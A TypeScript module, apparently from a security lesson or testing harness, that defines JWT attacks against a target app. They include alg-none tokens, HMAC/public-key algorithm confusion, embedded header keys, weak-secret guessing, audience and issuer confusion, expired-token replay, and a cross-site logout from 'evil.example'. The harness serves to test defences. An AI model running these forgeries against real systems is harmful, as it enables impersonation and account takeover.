import { exportJWK } from 'jose';
import { setTimeout as sleep } from 'node:timers/promises';
import { generateKeyPairSync } from 'node:crypto';
import type { Attack, Loot } from '../engine/lesson.js';
import type { Target } from '../engine/target.js';
import { firstThatTells } from '../engine/tries.js';
import {
  adasProfile,
  assemble,
  castOf,
  claimsOfAda,
  everybody,
  hmac,
  signature,
  signedBySister,
} from './forging.js';

const ownKey = () => generateKeyPairSync('ec', { namedCurve: 'P-256' });

/** Words that people choose when a library asks for "a secret". */
const WORDS = ['secret', 'changeme', 'jwt-secret', 'your-256-bit-secret', 'password'];

const unsigned = (id: string, alg: string): Attack => ({
  id,
  title: `Claim to be Ada in a token without a signature (alg "${alg}")`,
  run: async (target) => {
    const cast = await castOf(target);
    const token = assemble({ ...cast.header, alg }, claimsOfAda(cast), () => '');
    return adasProfile(target, token, `alg ${alg}, sub Ada, no signature`);
  },
});

const confused = (id: string, alg: 'HS256' | 'HS384'): Attack => ({
  id,
  title: `Sign with the public key as the secret of an HMAC (${alg})`,
  run: async (target) => {
    const cast = await castOf(target);
    const pem = cast.publicKey.export({ type: 'spki', format: 'pem' }) as string;
    const token = assemble({ ...cast.header, alg }, claimsOfAda(cast), hmac(pem, alg));
    return adasProfile(target, token, `alg ${alg}, sub Ada, HMAC keyed with the public key`);
  },
});

const embedded = (id: string, title: string, named: boolean): Attack => ({
  id,
  title,
  run: async (target) => {
    const cast = await castOf(target);
    const { publicKey, privateKey } = ownKey();
    const jwk = { ...(await exportJWK(publicKey)), ...(named && { kid: cast.header['kid'] }) };
    const token = assemble({ ...cast.header, jwk }, claimsOfAda(cast), signature(privateKey));
    return adasProfile(target, token, 'sub Ada, header jwk: the key of Eve, signed by Eve');
  },
});

const outsiders: Attack[] = [
  unsigned('token-unsigned', 'none'),
  unsigned('token-unsigned-spelled', 'nOnE'),
  {
    id: 'token-edited',
    title: 'Write "admin" into your own token and keep its signature',
    run: async (target) => {
      const { header, claims, eve } = await castOf(target);
      const [, , signed = ''] = eve.accessToken.split('.');
      const token = assemble(header, { ...claims, role: 'admin' }, () => signed);
      return everybody(target, token, 'role admin, the signature of the old claims');
    },
  },
  {
    id: 'token-strangers-key',
    title: 'Sign with a key of your own, under the name of theirs',
    run: async (target) => {
      const cast = await castOf(target);
      const own = signature(ownKey().privateKey);
      const token = assemble(cast.header, claimsOfAda(cast), own);
      return adasProfile(target, token, 'sub Ada, kid of the server, signed by Eve');
    },
  },
  confused('token-hs256', 'HS256'),
  confused('token-hs384', 'HS384'),
  embedded('token-embedded-key', 'Bring the key along in the header', false),
  embedded('token-embedded-key-named', 'Bring a key along and give it the name of theirs', true),
  {
    id: 'token-guessed-secret',
    title: 'Guess the secret from your own token, at home',
    run: async (target) => {
      const cast = await castOf(target);
      const [head, claims, signed] = cast.eve.accessToken.split('.');
      const secret = WORDS.find((word) => hmac(word)(`${head}.${claims}`) === signed);
      if (!secret) return null;
      const token = assemble(cast.header, claimsOfAda(cast), hmac(secret));
      return adasProfile(target, token, 'sub Ada, signed with the guessed secret');
    },
  },
];

/** Eve is an administrator of the sister service, which signs with the same key. */
const sisters = (
  id: string,
  title: string,
  change: (own: { iss: string; aud: string }) => object,
): Attack => ({
  id,
  title,
  needsLab: true,
  run: async (target) => {
    const { header, claims } = await castOf(target);
    const { typ, ...changes } = { typ: 'at+jwt', ...change(claims) };
    const token = signedBySister(
      target,
      { ...header, typ },
      { ...claims, role: 'admin', ...changes },
    );
    return everybody(target, token, title.toLowerCase());
  },
});

const foreign: Attack[] = [
  sisters('token-other-audience', 'A token for the billing service', () => ({
    aud: 'https://billing.example.com',
  })),
  sisters('token-audience-prefix', 'A token for a service below our address', ({ aud }) => ({
    aud: `${aud}/billing`,
  })),
  sisters('token-other-issuer', 'A token of the staging environment', () => ({
    iss: 'https://staging.example.com',
  })),
  sisters('token-issuer-prefix', 'A token of an issuer whose name begins like ours', ({ iss }) => ({
    iss: `${iss}.example.com`,
  })),
  sisters('token-other-kind', 'A download link, signed with the same key', () => ({
    typ: 'download+jwt',
  })),
  sisters('token-no-kind', 'A token that does not say of what kind it is', () => ({
    typ: undefined,
  })),
];

const expired: Attack[] = [
  {
    id: 'token-expired',
    title: 'Use a token from an old log',
    needsLab: true,
    run: async (target) => {
      const cast = await castOf(target);
      const now = Math.floor(Date.now() / 1_000);
      const times = { iat: now - 300, auth_time: now - 300, exp: now - 60 };
      const token = signedBySister(target, cast.header, { ...claimsOfAda(cast), ...times });
      return adasProfile(target, token, 'sub Ada, expired a minute ago');
    },
  },
  {
    id: 'token-expired-remembered',
    title: 'Go on with a token that was good a moment ago',
    swept: 'never',
    needsLab: true,
    run: (target) =>
      firstThatTells(
        () => outlive(target, 0.3),
        () => outlive(target, 2),
      ),
  },
];

/** Undefined when the first use was refused: a busy machine may let the short one expire before it. */
async function outlive(target: Target, seconds: number): Promise<Loot | undefined> {
  const cast = await castOf(target);
  const exp = Date.now() / 1_000 + seconds;
  const iat = Math.floor(exp) - 60;
  const times = { iat, auth_time: iat, exp };
  const token = signedBySister(target, cast.header, { ...claimsOfAda(cast), ...times });
  const first = await adasProfile(target, token, 'sub Ada, about to expire');
  if (!first) return undefined;
  await sleep(exp * 1_000 - Date.now() + 10);
  const second = await adasProfile(target, token, 'the same, expired');
  return second && `${second}, after the token has expired`;
}

const transport: Attack[] = [
  {
    id: 'token-in-cookie',
    title: "Let Ada's browser send her token by itself, from a foreign page",
    run: async (target) => {
      const ada = await target.person('ada');
      const headers = { cookie: `access_token=${ada.accessToken}`, origin: 'https://evil.example' };
      await target.stranger("ada's browser").post('/v1/auth/logout-everywhere', undefined, headers);
      const { status } = await ada.client.get('/v1/users/me');
      return status === 401 ? 'Ada, signed out everywhere by a page that she looked at' : null;
    },
  },
  {
    id: 'token-other-scheme',
    title: 'Send a stolen token past a filter that looks for "Bearer"',
    run: async (target) => {
      const { ada } = await castOf(target);
      const headers = { authorization: `Basic ${ada.accessToken}` };
      const { body } = await target.stranger('eve').get<{ email?: string }>(ME, headers);
      return body.email === ada.email ? "Ada's profile, unseen by the filter" : null;
    },
  },
];

const ME = '/v1/users/me';

export const attacks: Attack[] = [...outsiders, ...foreign, ...expired, ...transport];
